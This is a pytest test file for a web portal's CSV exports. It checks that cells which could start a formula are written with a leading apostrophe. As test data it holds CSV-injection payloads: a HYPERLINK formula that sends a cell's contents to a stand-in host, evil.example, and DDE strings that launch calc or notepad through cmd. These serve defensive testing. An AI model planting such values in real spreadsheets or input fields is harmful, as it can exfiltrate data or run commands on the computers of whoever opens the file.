"""Every CSV the portal writes is inert in Excel: a cell that would start a formula is
written with a leading apostrophe, whoever typed it and wherever it lands."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from portal.accounts.models import Role
from portal.applications.models import ApplicationState
from portal.campaigns.models import CampaignStatus
from portal.db import utcnow
from portal.documents.spreadsheet import inert_cell
from portal.scoring.models import Panel
from tests.api.helpers import auth_headers
from tests.factories import make_application, make_campaign, make_user
from tests.scoring.results_helpers import category_of, make_expert, sheet
from tests.statistics.helpers import file_all

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
HOSTILE_ORG = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_EXPERT = "+1+cmd|' /C notepad'!A0"


@pytest.fixture
def app_config(app_config):
    return {**app_config, "BABEL_DEFAULT_LOCALE": "en"}


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def hostile_packet(client, login, session):
    """A packet whose team name the enterprise set through the API, whose unit the office
    renamed and whose expert the office renamed through their pages, then scored."""
    campaign = make_campaign(year=2071)
    app = make_application(ApplicationState.DRAFT, campaign=campaign)
    enterprise = make_user(Role.ENTERPRISE, organization=app.organization)
    response = client.patch(
        f"/api/v1/applications/{app.id}",
        json={"lock_version": app.lock_version, "fields": {"team_name": HYPERLINK}},
        headers=auth_headers(enterprise),
    )
    assert response.status_code == 200, response.get_json()
    assert app.team_name == HYPERLINK

    office = make_user(Role.OFFICE)
    login(office)
    org = app.organization
    form = {
        "name": HOSTILE_ORG,
        "kind": org.kind.value,
        "system": "",
        "channel_level": "",
        "district_id": str(org.district_id),
        "industry_id": str(org.industry_id),
        "parent_id": "",
        "credit_code": org.credit_code,
        "unit_nature": "",
    }
    response = client.post(f"/office/organizations/{org.id}/edit", data=form)
    assert response.status_code == 302, response.get_data(as_text=True)
    assert org.name == HOSTILE_ORG

    app.state, app.submitted_at = ApplicationState.ACCEPTED, utcnow()  # reviewed since
    session.flush()
    expert = make_expert("专家甲")
    sheet(app, expert, Decimal("88"))
    response = client.post(
        f"/scoring/experts/{expert.id}/edit",
        data={
            "name": HOSTILE_EXPERT,
            "organization_id": str(expert.organization_id),
            "industry_ids": [str(app.industry_id)],
            "active": "y",
            "lock_version": str(expert.lock_version),
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    assert expert.name == HOSTILE_EXPERT
    return app


def test_ranked_list_csv_neutralises_the_team_and_unit_names(client, hostile_packet):
    category = category_of(hostile_packet.campaign)
    rows = rows_of(client.get(f"/scoring/results/categories/{category.id}/list.csv"))
    assert rows[1][2] == "'" + HYPERLINK
    assert rows[1][3] == "'" + HOSTILE_ORG
    assert rows[1][6] == "88.00"  # figures stay figures


def test_panel_csv_neutralises_the_expert_team_and_unit_names(client, session, hostile_packet):
    panel = session.query(Panel).filter_by(campaign_id=hostile_packet.campaign_id).one()
    rows = rows_of(client.get(f"/scoring/results/panels/{panel.id}/scores.csv"))
    assert rows[0][3] == "'" + HOSTILE_EXPERT
    assert rows[1][1:3] == ["'" + HYPERLINK, "'" + HOSTILE_ORG]
    assert rows[1][3:6] == ["88.00", "88.00", "0.00"]


def test_statistics_csv_has_one_charset_and_inert_cells(client, login):
    """Its cells are counts and reference names today; the shared writer keeps them inert."""
    campaign = make_campaign(year=2072, status=CampaignStatus.CLOSED)
    file_all(campaign)
    login(make_user(Role.OFFICE))
    rows = rows_of(client.get(f"/statistics/summary.csv?campaign={campaign.id}"))
    assert rows[0][:2] == ["Section", "By system"]
    assert rows[1][:3] == ["By system", "Trade union", "2"]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # a real negative number stays a number
        ("-3", "-3"),
        ("--3", "'--3"),
        ("窗口一组", "窗口一组"),
        ("", ""),
    ],
)
def test_every_formula_prefix_is_neutralised_but_numbers_are_kept(cell, written):
    assert inert_cell(cell) == written
